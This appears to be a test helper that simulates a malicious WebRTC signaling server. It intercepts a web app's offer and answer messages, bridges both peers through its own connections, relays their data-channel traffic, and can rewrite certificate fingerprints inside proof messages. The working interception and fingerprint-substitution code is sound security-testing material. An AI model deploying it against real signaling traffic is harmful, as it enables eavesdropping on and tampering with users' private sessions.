// A malicious introduction: whoever carries offers and answers puts itself between the phones, with certificates of its own.
// It ends both connections in a page of its own and passes their messages on: the attack that a signaling server can make.

/** In the attacker's page: connections to both ends of each join, by the guest's seat. */
function attack() {
  const joins = new Map();

  function connection() {
    const peer = new RTCPeerConnection();
    const channels = [1, 2].map((id) => {
      const channel = peer.createDataChannel(`channel ${id}`, { negotiated: true, id, ordered: true });
      channel.binaryType = "arraybuffer";
      return channel;
    });
    return { peer, channels };
  }

  async function described(peer, description) {
    await peer.setLocalDescription(description);
    while (peer.iceGatheringState !== "complete") await new Promise((resolve) => peer.addEventListener("icegatheringstatechange", resolve, { once: true }));
    return peer.localDescription.sdp;
  }

  /** Passes on what arrives, changed or not, as soon as the other side is open. */
  function pass(join, from, to, direction) {
    from.channels.forEach((channel, index) => {
      const target = to.channels[index];
      const waiting = [];
      const flush = () => waiting.splice(0).forEach((message) => target.send(message));
      target.addEventListener("open", flush);
      channel.onclose = () => setTimeout(() => join.connections.forEach(({ peer }) => peer.close()), 1000);
      channel.onmessage = ({ data }) => {
        join.seen.push({ direction, channel: index + 1, bytes: data.byteLength });
        waiting.push(join.rewrite ? rewritten(join, data, direction) : data);
        if (target.readyState === "open") flush();
      };
    });
  }

  /** Puts into a proof the certificates that its receiver sees. */
  function rewritten(join, data, direction) {
    const bytes = new Uint8Array(data.slice(0));
    const [sender, receiver] = direction === "to host" ? [join.guest, join.host] : [join.host, join.guest];
    replace(bytes, sender.real, sender.shown);
    replace(bytes, receiver.shown, receiver.real);
    return bytes.buffer;
  }

  function replace(bytes, from, to) {
    for (let at = 0; at + from.length <= bytes.length; at++) {
      if (from.every((byte, index) => bytes[at + index] === byte)) {
        bytes.set(to, at);
        return;
      }
    }
  }

  const fingerprint = (sdp) => /a=fingerprint:sha-256 (\S+)/i.exec(sdp)[1].split(":").map((hex) => parseInt(hex, 16));

  return {
    /** The guest's offer arrives; the host gets this page's. */
    async offer(seat, sdp, rewrite) {
      const guest = connection();
      const host = connection();
      const join = { rewrite, seen: [], connections: [guest, host], guest: { real: fingerprint(sdp) }, host: {} };
      joins.set(seat, join);
      pass(join, guest, host, "to host");
      pass(join, host, guest, "to guest");
      await guest.peer.setRemoteDescription({ type: "offer", sdp });
      join.answer = await described(guest.peer, await guest.peer.createAnswer());
      const offer = await described(host.peer, await host.peer.createOffer());
      join.host.shown = fingerprint(join.answer);
      join.guest.shown = fingerprint(offer);
      return offer;
    },
    /** The host's answer arrives; the guest gets this page's. */
    async answer(seat, sdp) {
      const join = joins.get(seat);
      join.host.real = fingerprint(sdp);
      await join.connections[1].peer.setRemoteDescription({ type: "answer", sdp });
      return join.answer;
    },
    /** What passed here since the last call. */
    seen() {
      const seen = [...joins.values()].map((join) => join.seen);
      for (const { connections } of joins.values()) connections.forEach(({ peer }) => peer.close());
      joins.clear();
      return seen;
    },
  };
}

/** Sits between all pages of `context` from now on. */
export class Interceptor {
  rewrite = false;

  static async between(context, page) {
    const interceptor = new Interceptor();
    interceptor.page = page;
    await page.evaluate(`window.attack = (${attack})()`);
    await context.route("**/api/rooms/*/messages", async (route) => {
      const request = JSON.parse(route.request().postData());
      const letter = JSON.parse(request.body);
      const [, seat] = /^Bearer ([a-z0-9]+)\./.exec(route.request().headers().authorization);
      if (letter.type === "offer") letter.sdp = await interceptor.#ask("offer", seat, letter.sdp, interceptor.rewrite);
      if (letter.type === "answer") letter.sdp = await interceptor.#ask("answer", request.to, letter.sdp);
      await route.continue({ postData: JSON.stringify({ ...request, body: JSON.stringify(letter) }) });
    });
    return interceptor;
  }

  /** For each join since the last call: every message that passed, `{direction, channel, bytes}`. */
  seen() {
    return this.page.evaluate(() => window.attack.seen());
  }

  #ask(what, ...values) {
    return this.page.evaluate(([what, values]) => window.attack[what](...values), [what, values]);
  }
}
